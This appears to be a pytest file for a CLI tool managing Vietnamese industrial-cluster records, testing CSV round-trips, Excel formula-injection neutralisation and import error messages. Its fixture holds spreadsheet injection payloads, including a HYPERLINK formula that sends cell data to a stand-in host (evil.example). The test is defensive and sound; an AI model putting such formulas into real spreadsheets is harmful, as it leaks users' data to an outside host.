"""CSV export/import: a portfolio snapshot that always imports back, safe in Excel,
and an import that tells every problem at once."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from freezegun import freeze_time

from cli import cli
from workflow.csvio import neutralise, read_clusters, restore, write_csv

from ..conftest import FROZEN_NOW, dump

HOSTILE = {
    "A1": '=HYPERLINK("http://evil.example/?q="&A2,"Bấm vào đây")',
    "A2": "+1 Cụm",
    "A3": "-x Cụm",
    "A4": "@SUM(1+1)",
    "A5": "'Cụm trích dẫn",
    "A6": "''hai dấu nháy",
    "A7": "Cụm bình thường",
}


@pytest.fixture(autouse=True)
def frozen():
    with freeze_time(FROZEN_NOW):
        yield


def _portfolio(ccn) -> None:
    """Clusters in every kind of position, reached in every kind of way."""

    def ok(*args: str) -> None:
        r = ccn(*args)
        assert r.exit_code == 0, r.stderr

    for code, name in HOSTILE.items():
        ok("cluster", "add", code, f"--name={name}", "--since", "2025-01-02")
    for code in ("A2", "A3", "A4", "A5", "A7"):
        ok("advance", code, "--on", "2025-02-03")
        ok("advance", code, "--on", "2025-03-03")
        ok("advance", code, "--on", "2025-04-01", "--ref", f"=QĐ {code}")
    # Sent back from infrastructure: the last entry has no ref.
    ok("advance", "A2", "--on", "2025-05-05", "--ref", "QĐ hạ tầng")
    ok("send-back", "A2", "--to", "investment_approval", "--reason", "thiếu hồ sơ", "--on",
       "2025-06-02")  # fmt: skip
    # Suspended: it must resume where it left off.
    ok("suspend", "A3", "--reason", "chờ vốn", "--on", "2025-06-02")
    # Suspended and resumed: the resume entry has no ref.
    ok("suspend", "A4", "--reason", "chờ vốn", "--on", "2025-06-02")
    ok("resume", "A4", "--on", "2025-07-01")
    # Sent back, and that undone: the standing entry is the advance.
    ok("send-back", "A5", "--to", "establishment", "--reason", "nhầm", "--on", "2025-06-02")
    ok("revert", "A5", "--reason", "gửi nhầm")
    # Registered suspended, never told where it resumes.
    ok("cluster", "add", "S1", "--name", "Cụm tạm dừng", "--state", "suspended")
    # Suspended, then cancelled.
    ok("suspend", "A7", "--reason", "chờ", "--on", "2025-06-02")
    ok("cancel", "A7", "--reason", "thôi", "--on", "2025-07-01")
    ok("suspend", "A1", "--reason", "chờ", "--on", "2025-06-02")


def _fresh(tmp_path: Path, name: str) -> str:
    db = tmp_path / name
    assert CliRunner().invoke(cli, ["--db", str(db), "init"]).exit_code == 0
    return str(db)


def _run(db: str, *args: str):
    return CliRunner().invoke(cli, ["--db", db, "--actor", "tester", *args])


def test_portfolio_imports_back_into_a_fresh_database(ccn, tmp_path) -> None:
    _portfolio(ccn)
    first = ccn("cluster", "export").stdout_bytes
    (tmp_path / "one.csv").write_bytes(first)
    fresh = _fresh(tmp_path, "fresh.db")
    r = _run(fresh, "cluster", "import", str(tmp_path / "one.csv"))
    assert (r.exit_code, r.stderr) == (0, ""), r.stderr
    second = _run(fresh, "cluster", "export").stdout_bytes
    assert second == first  # a fixed point
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(first.decode("utf-8-sig")))}
    assert {c: (r["state"], r["resumes_to"], r["ref"]) for c, r in rows.items()} == {
        "A1": ("suspended", "planned", ""),
        "A2": ("investment_approval", "", "'=QĐ A2"),
        "A3": ("suspended", "investment_approval", "'=QĐ A3"),
        "A4": ("investment_approval", "", "'=QĐ A4"),
        "A5": ("investment_approval", "", "'=QĐ A5"),
        "A6": ("planned", "", ""),
        "A7": ("cancelled", "", ""),
        "S1": ("suspended", "", ""),
    }
    assert rows["A3"]["since"] == "2025-06-02"
    # The clusters come back as they were, names exactly, and resume where they left.
    listed = json.loads(_run(fresh, "cluster", "list", "--format", "json").stdout)
    assert {c["code"]: c["name"] for c in listed} == {**HOSTILE, "S1": "Cụm tạm dừng"}
    assert _run(fresh, "resume", "A3").exit_code == 0
    shown = json.loads(_run(fresh, "cluster", "show", "A3", "--format", "json").stdout)
    assert shown["state"] == "investment_approval"
    assert _run(fresh, "audit", "verify").exit_code == 0


def test_hostile_cells_are_neutralised_and_restored(ccn, tmp_path) -> None:
    for code, name in HOSTILE.items():
        assert ccn("cluster", "add", code, f"--name={name}").exit_code == 0
    exported = ccn("cluster", "export").stdout_bytes.decode("utf-8-sig")
    names = {r["code"]: r["name"] for r in csv.DictReader(io.StringIO(exported))}
    assert names == {
        "A1": "'" + HOSTILE["A1"],
        "A2": "'+1 Cụm",
        "A3": "'-x Cụm",
        "A4": "'@SUM(1+1)",
        "A5": "''Cụm trích dẫn",
        "A6": "'''hai dấu nháy",
        "A7": "Cụm bình thường",
    }
    # Other CSV outputs are as safe.
    listed = ccn("cluster", "list", "--format", "csv").stdout_bytes.decode("utf-8-sig")
    assert "'=HYPERLINK" in listed and ",=HYPERLINK" not in listed


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "'x", "''x", "x'", "plain", "", "'"]
)
def test_neutralise_is_undone_by_import(cell) -> None:
    assert restore(neutralise(cell)) == cell
    text = io.StringIO(newline="")
    write_csv(text, ["code", "name"], [["A1", cell]])
    written = text.getvalue()
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert f",'{cell}" in written or f",\"'{cell}" in written
    parsed = read_clusters(written.encode("utf-8"))
    assert parsed.rows[0][1].name == cell


def test_old_files_without_new_columns_import(ccn, tmp_path) -> None:
    src = tmp_path / "old.csv"
    src.write_bytes(b"code,name,state\r\nS1,Cum,suspended\r\n")
    assert ccn("cluster", "import", str(src)).stdout == "Imported 1 clusters.\n"
    src.write_bytes(b"code,name,state,ref\r\nS2,Cum,suspended,\r\n")
    assert ccn("cluster", "import", str(src)).stdout == "Imported 1 clusters.\n"


def test_a_semicolon_csv_from_vietnamese_excel_imports(ccn, tmp_path) -> None:
    src = tmp_path / "excel-vi.csv"
    src.write_bytes(
        "\ufeffcode;name;locality;area_ha;industrial_land_ha\r\n"
        'HT1;Cụm công nghiệp Hợp Thành 1;Cao Lộc;12,5;"9,75"\r\n'.encode()
    )
    assert ccn("cluster", "import", str(src)).stdout == "Imported 1 clusters.\n"
    shown = json.loads(ccn("cluster", "show", "HT1", "--format", "json").stdout)
    assert (shown["name"], shown["locality"], shown["area_ha"]) == (
        "Cụm công nghiệp Hợp Thành 1", "Cao Lộc", 12.5,
    )  # fmt: skip
    assert shown["industrial_land_ha"] == 9.75


def test_resumes_to_is_checked(ccn, tmp_path) -> None:
    src = tmp_path / "bad.csv"
    src.write_bytes(
        b"code,name,state,ref,resumes_to\r\n"
        b"R1,Cum,planned,,establishment\r\n"
        b"R2,Cum,suspended,,moon\r\n"
        b"R3,Cum,suspended,,infrastructure\r\n"
    )
    r = ccn("cluster", "import", str(src))
    assert r.exit_code == 1
    assert r.stderr.splitlines() == [
        "line 2: resumes_to is only for suspended clusters, not planned",
        "line 3: unknown state 'moon' (known: planned, planning_compliant, establishment, "
        "investment_approval, infrastructure, operating, suspended, cancelled)",
        "line 4: ref is required for entering infrastructure (cluster R3)",
        "Error: 3 problem(s); nothing imported",
    ]


def test_thirty_bad_rows_give_thirty_lines(ccn, tmp_path) -> None:
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(["code", "name", "since"])
    for i in range(30):
        w.writerow([f"B{i:02d}", f"Cụm {i}", f"31/02/20{i:02d}"])
    src = tmp_path / "bad.csv"
    src.write_text(buf.getvalue(), encoding="utf-8")
    before = dump(ccn.url)
    for dry in ((), ("--dry-run",)):
        r = ccn("cluster", "import", str(src), *dry)
        assert r.exit_code == 1
        assert r.stdout == ""
        assert r.stderr.splitlines() == [
            f"line {i + 2}: invalid date '31/02/20{i:02d}' (use YYYY-MM-DD or DD/MM/YYYY)"
            for i in range(30)
        ] + ["Error: 30 problem(s); nothing imported"]
    assert dump(ccn.url) == before


def test_every_problem_of_a_row(ccn, tmp_path) -> None:
    src = tmp_path / "bad.csv"
    src.write_bytes(
        "code,name,locality,area_ha,state,since,ref\r\n"
        "B 1,,Xã\x07,abc,infrastructure,31/02/2025,\r\n"
        "B2,Cụm,,,moon,2027-01-01,\r\n".encode()
    )
    r = ccn("cluster", "import", str(src), "--dry-run")
    assert r.exit_code == 1
    # A line's problems in the order of its columns, the date first (read with the file).
    assert r.stderr.splitlines() == [
        "line 2: invalid date '31/02/2025' (use YYYY-MM-DD or DD/MM/YYYY)",
        "line 2: invalid cluster code 'B 1': use 1-32 letters, digits, '.', '_' or '-', "
        "starting with a letter or digit",
        "line 2: name is required and must not be empty",
        "line 2: locality contains a control character (U+0007)",
        "line 2: invalid area 'abc': give hectares as a number",
        "line 2: ref is required for entering infrastructure (cluster B 1)",
        "line 3: unknown state 'moon' (known: planned, planning_compliant, establishment, "
        "investment_approval, infrastructure, operating, suspended, cancelled)",
        "line 3: effective date 01/01/2027 is in the future (today is 02/03/2026)",
        "Error: 8 problem(s); nothing imported",
    ]


@pytest.mark.parametrize(("column", "limit"), [("name", 300), ("code", 32), ("ref", 300)])
def test_a_200_kb_field_is_a_line_problem(ccn, tmp_path, column, limit) -> None:
    row = {"code": "B2", "name": "Cụm", "ref": ""}
    row[column] = "x" * 200_000
    src = tmp_path / "big.csv"
    src.write_text(
        "code,name,ref\r\nB1,Cụm 1,\r\n" + ",".join(row.values()) + "\r\n", encoding="utf-8"
    )
    for dry in ((), ("--dry-run",)):
        r = ccn("cluster", "import", str(src), *dry)
        assert r.exit_code == 1
        assert r.stderr == (
            f"line 3: {column} is too long: 200000 characters (limit {limit})\n"
            "Error: 1 problem(s); nothing imported\n"
        )
